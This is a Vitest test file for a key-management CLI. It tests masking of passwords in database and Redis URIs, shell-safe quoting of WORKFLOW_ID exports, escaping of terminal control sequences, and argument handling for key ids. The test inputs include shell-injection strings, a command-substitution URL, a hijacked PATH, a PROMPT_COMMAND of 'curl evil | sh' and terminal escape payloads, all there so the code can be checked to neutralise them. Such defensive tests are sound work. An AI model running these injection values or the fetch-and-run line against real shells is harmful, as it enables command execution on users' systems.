import { execFileSync } from 'node:child_process';
import { Command } from 'commander';
import { describe, expect, it } from 'vitest';
import {
  kidsAsOperands,
  optionsTakingValues,
  printable,
  shellExports,
  withoutSecrets,
} from '../../src/cli/common.js';

describe('withoutSecrets (what the CLI prints of a key or store URI)', () => {
  it.each([
    ['postgres://wfid:s3cret@db.internal:5432/wfid', 'postgres://wfid:***@db.internal:5432/wfid'],
    ['redis://:s3cret@redis.internal:6379/0', 'redis://:***@redis.internal:6379/0'],
    [
      'postgres://db/wfid?user=wfid&password=s3cret&ssl=1',
      'postgres://db/wfid?user=wfid&password=***&ssl=1',
    ],
    // An unescaped @ in the password: the drivers (pg, ioredis) and URL read up to the last @.
    ['postgres://wfid:s3c@ret@db.internal/wfid', 'postgres://wfid:***@db.internal/wfid'],
    ['rediss://default:s3c@r@et@redis.internal:6379', 'rediss://default:***@redis.internal:6379'],
    [
      'postgres://db/wfid?sslmode=verify-full&sslpassword=s3cret',
      'postgres://db/wfid?sslmode=verify-full&sslpassword=***',
    ],
    [
      'pkcs11:token=wfid;object=k?module-path=/lib/p.so&pin-value=1234',
      'pkcs11:token=wfid;object=k?module-path=/lib/p.so&pin-value=***',
    ],
  ])('masks %s', (uri, shown) => {
    expect(withoutSecrets(uri)).toBe(shown);
    expect(withoutSecrets(uri)).not.toContain('s3cret');
  });

  it.each([
    'file://./data/keys',
    'sqlite:./data/wfid.db',
    'hashivault://wfid',
    'awskms://127.0.0.1:4566/alias/wfid',
    'pkcs11:token=wfid;object=k?module-path=/lib/p.so&pin-source=file:/run/pin',
  ])('leaves %s as it is', (uri) => {
    expect(withoutSecrets(uri)).toBe(uri);
  });
});

describe('shellExports (what `wfid execution start --env` prints for eval)', () => {
  /** Evaluates the exports in a real bash, as the guides do, and reads the variables back. */
  const evaluate = (code: string, names: string[]) =>
    execFileSync(
      'bash',
      ['-c', `eval "$1"; for n in ${names.join(' ')}; do printf '%s\\0' "\${!n}"; done`, '_', code],
      { encoding: 'utf8' },
    )
      .split('\0')
      .slice(0, -1);

  it('quotes every value so that eval sets it byte for byte and runs nothing else', () => {
    const values = {
      WORKFLOW_ID_TOKEN: "abc'; touch /tmp/wfid-injected; echo '",
      WORKFLOW_ID_TOKEN_REQUEST_URL: 'http://h/$(id)`id`"x"\\n',
      WORKFLOW_ID_TOKEN_REQUEST_TOKEN: "''''",
    };
    const code = shellExports(values);
    expect(evaluate(code, Object.keys(values))).toEqual(Object.values(values));
    expect(code.split('\n')).toHaveLength(3);
  });

  it.each([
    [{ 'X=1; echo injected; Y': 'v' }],
    [{ PATH: '/tmp/evil' }],
    [{ PROMPT_COMMAND: 'curl evil | sh' }],
    [{ WORKFLOW_ID_TOKEN: 1 }],
    [null],
    [['WORKFLOW_ID_TOKEN=x']],
  ])('refuses an answer that is not WORKFLOW_ID_* strings: %j', (env) => {
    expect(() => shellExports(env)).toThrow(
      expect.objectContaining({ code: 'ERR_BACKEND' }) as Error,
    );
  });
});

describe('printable (what the CLI writes of an error that quotes a server)', () => {
  it('shows control characters as escapes and keeps line breaks', () => {
    const answer = 'bad\u001b]0;owned\u0007 title\u001b[2J\r\nnext line\u009b1m';
    expect(printable(answer)).toBe(
      'bad\\u001b]0;owned\\u0007 title\\u001b[2J\\u000d\nnext line\\u009b1m',
    );
    expect(printable('plain text: naïve, 日本')).toBe('plain text: naïve, 日本');
  });
});

describe('kidsAsOperands (a kid may begin with "-")', () => {
  const kid = '-zwpRmYhXEAjXidi0iqZ6BP-b2suufSKWK0oQxcKaY4';
  const node = ['node', 'wfid'];
  const values = new Set(['-c', '--config', '--kid']);
  const rewrite = (...args: string[]) => kidsAsOperands([...node, ...args], values);

  it('moves a kid that looks like an option behind --, keeping the options before it', () => {
    expect(rewrite('keys', 'retire', kid, '--now', '-y')).toEqual([
      ...node,
      ...['keys', 'retire', '--now', '-y', '--', kid],
    ]);
  });

  it('leaves the value of an option that takes one where it is, kid-like or not', () => {
    expect(rewrite('audit', '--kid', kid)).toEqual([...node, 'audit', '--kid', kid]);
    const other = `-${'A'.repeat(42)}`;
    expect(rewrite('-c', other, 'keys', 'retire', kid, '--now')).toEqual([
      ...node,
      ...['-c', other, 'keys', 'retire', '--now', '--', kid],
    ]);
  });

  it('keeps operands already behind -- after the moved kid, and an option after -- untouched', () => {
    expect(rewrite('keys', 'retire', '--', kid)).toEqual([...node, 'keys', 'retire', '--', kid]);
    expect(rewrite('x', kid, '--', '--now')).toEqual([...node, 'x', '--', kid, '--now']);
  });

  it.each([
    ['an ordinary kid', ['keys', 'retire', 'zwpRmYhXEAjXidi0iqZ6BP-b2suufSKWK0oQxcKaY4']],
    ['options', ['--config', 'wfid.yaml', 'keys', 'retire', '--now', '--yes']],
    ['a short option group', ['-yx']],
    ['one character too short for a kid', ['keys', 'retire', kid.slice(0, -1)]],
  ])('leaves %s as it is', (_case, args) => {
    expect(rewrite(...args)).toEqual([...node, ...args]);
  });
});

describe('optionsTakingValues', () => {
  it('names the flags of every option in the tree that requires a value, no switch and no optional value', () => {
    const program = new Command('wfid').option('-c, --config <file>');
    program.command('keys').command('retire <kid>').option('--now').option('-y, --yes');
    program.command('audit').option('--kid <kid>').option('--since [when]');
    expect([...optionsTakingValues(program)].sort()).toEqual(['--config', '--kid', '-c'].sort());
  });
});
